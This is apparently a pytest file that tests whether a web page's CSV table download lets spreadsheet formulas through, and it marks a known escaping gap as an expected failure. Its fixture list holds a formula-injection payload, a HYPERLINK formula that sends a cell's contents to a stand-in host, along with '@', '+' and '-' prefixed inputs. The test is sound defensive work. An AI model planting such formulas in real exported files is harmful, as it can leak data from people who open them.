"""Problems that users of other tools reported in public, kept as small inputs.

What is taken away as a file.
"""

from __future__ import annotations

from datetime import datetime

import pandas as pd
import pytest

from core.records import Case, Outcome, Suite
from db.store import Store
from tests.pages.conftest import OpenPage, fine
from tests.world import judge, make_world

FORMULAE = ('=HYPERLINK("http://x.example/?"&A1,"see")', "@SUM(1+1) a poster", "+1 a poster", "-1 a poster")
SUITE = Suite(
    name="formulae",
    cases=tuple(
        Case(name=f"formula-{place}", prompt=prompt, width=48, height=48)
        for place, prompt in enumerate(FORMULAE)
    ),
)
BEGINNINGS = ("=", "+", "-", "@")
"""What makes a spreadsheet calculate a cell instead of showing it."""


@pytest.mark.xfail(
    strict=True,
    raises=AssertionError,
    reason="a table's download is made of its texts as they are, formulae among them (Trust)",
)
def test_no_text_of_a_tables_download_is_a_formula_to_a_spreadsheet(
    open_page: OpenPage, store: Store, now: datetime
) -> None:
    """The browser makes the CSV of a table of what the page sends it."""
    judge(make_world(store, now, suite=SUITE, seeds=(1,)), "ana", Outcome.TIE)  # whose page it is
    (table,) = fine(open_page("engineers/replay.py", q="formula")).dataframe
    sent: pd.DataFrame = table.value
    texts = [str(cell) for column in sent.select_dtypes(exclude="number") for cell in sent[column]]
    assert any("HYPERLINK" in text for text in texts)
    assert [text for text in texts if text.startswith(BEGINNINGS)] == []
